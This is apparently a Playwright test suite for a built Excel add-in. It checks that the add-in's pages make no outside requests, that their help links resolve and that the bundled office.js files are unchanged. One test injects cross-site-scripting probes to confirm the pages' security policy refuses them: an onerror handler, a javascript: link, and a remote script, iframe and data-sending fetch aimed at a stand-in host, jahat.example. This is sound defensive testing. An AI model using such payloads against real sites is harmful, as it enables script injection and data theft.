import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../helpers/chromium';

const root = join(__dirname, '../..');
const dist = join(root, 'dist');

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
}, 60_000);
afterAll(async () => {
  await browser.close();
});

/** What a page of these tests asked for outside the address it came from; nothing may. */
const outside: string[] = [];
afterEach(() => expect(outside.splice(0)).toEqual([]));

interface Visit {
  readonly tab: Page;
  /** What the pages' own security policy refused. */
  readonly refused: string[];
  readonly errors: string[];
}

/** A page of the built add-in, every request answered from dist/ as a web server would. */
async function visit(path: string): Promise<Visit> {
  const tab = await browser.newPage();
  const refused: string[] = [];
  const errors: string[] = [];
  tab.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) refused.push(message.text());
  });
  tab.on('pageerror', (error) => errors.push(String(error)));
  tab.on('request', (request) => {
    if (!/^(?:data:|blob:|https:\/\/localhost:3000\/)/.test(request.url())) outside.push(request.url());
  });
  // What the policy stopped was never sent.
  tab.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') outside.splice(outside.indexOf(request.url()), 1);
  });
  await tab.route('**/*', (route) => {
    const file = join(dist, new URL(route.request().url()).pathname);
    return existsSync(file) && statSync(file).isFile()
      ? route.fulfill({ path: file })
      : route.fulfill({ status: 404 });
  });
  await tab.goto(`https://localhost:3000/${path}`);
  return { tab, refused, errors };
}

describe('the built add-in', () => {
  it("runs with Microsoft's office.js in a plain browser and says that it is outside Excel", async () => {
    const { tab, refused, errors } = await visit('taskpane.html');
    await tab.waitForSelector('#boot-outside:not([hidden])', { timeout: 10_000 });
    // office.js opens a telemetry frame of Microsoft's and sets one style; nothing of ours is refused.
    expect(refused.filter((text) => !/frame|style attribute|inline style/i.test(text))).toEqual([]);
    expect(errors).toEqual([]);
    await tab.close();
  });

  // What an attacker would try who got markup or a script into a page all the same.
  it.each(['taskpane.html', 'bantuan.html', 'simulator/index.html'])(
    '%s runs no script but its own, and reaches no other address',
    async (path) => {
      const { tab } = await visit(path);
      const tried = await tab.evaluate(async () => {
        const ran: string[] = [];
        Object.assign(window, { ran: (what: string) => ran.push(what) });
        const script = document.createElement('script');
        script.textContent = "ran('inline script')";
        const image = document.createElement('div');
        image.innerHTML = '<img src="x" onerror="ran(\'handler\')"><a href="javascript:ran(\'link\')">x</a>';
        const far = document.createElement('script');
        far.src = 'https://jahat.example/x.js';
        const frame = document.createElement('iframe');
        frame.src = 'https://jahat.example/';
        document.body.append(script, image, far, frame);
        image.querySelector('a')?.click();
        const refused = async (send: () => Promise<unknown>): Promise<boolean> =>
          send().then(
            () => false,
            () => true,
          );
        const isFetchRefused = await refused(() => fetch('https://jahat.example/?angka'));
        // Later, and so outside of this function, which the browser lets do everything.
        const evaluated = await new Promise<string>((resolve) => {
          setTimeout(() => {
            try {
              resolve(String(window.eval('1+1')));
            } catch {
              resolve('refused');
            }
          }, 0);
        });
        return { ran, isFetchRefused, evaluated };
      });
      expect(tried).toEqual({ ran: [], isFetchRefused: true, evaluated: 'refused' });
      await tab.close();
    },
    30_000,
  );

  it('has a help page in both languages whose links lead somewhere', async () => {
    const { tab, refused } = await visit('bantuan.html');
    const links = await tab.$$eval('a', (found) => found.map((one) => one.getAttribute('href') ?? ''));
    const broken = [];
    for (const link of links) {
      const isThere = link.startsWith('#') ? (await tab.$(link)) !== null : existsSync(join(dist, link));
      if (!isThere) broken.push(link);
    }
    expect(broken).toEqual([]);
    expect(refused).toEqual([]);
    await tab.close();
  });

  it('carries the files of office.js as Microsoft made them, with their licence', () => {
    const source = dirname(require.resolve('@microsoft/office-js/package.json'));
    const files = readdirSync(join(dist, 'office-js'), { recursive: true, encoding: 'utf8' }).filter((name) =>
      statSync(join(dist, 'office-js', name)).isFile(),
    );
    expect(files).toEqual(
      expect.arrayContaining([
        'office.js',
        'excel-win32-16.01.js',
        'excel-web-16.00.js',
        'excel-mac-16.00.js',
        join('id-id', 'office_strings.js'),
        'LICENSE.md',
      ]),
    );
    const changed = files.filter((name) => {
      const original = join(source, name === 'LICENSE.md' ? '' : 'dist', name);
      return !readFileSync(join(dist, 'office-js', name)).equals(readFileSync(original));
    });
    expect(changed).toEqual([]);
  });
});
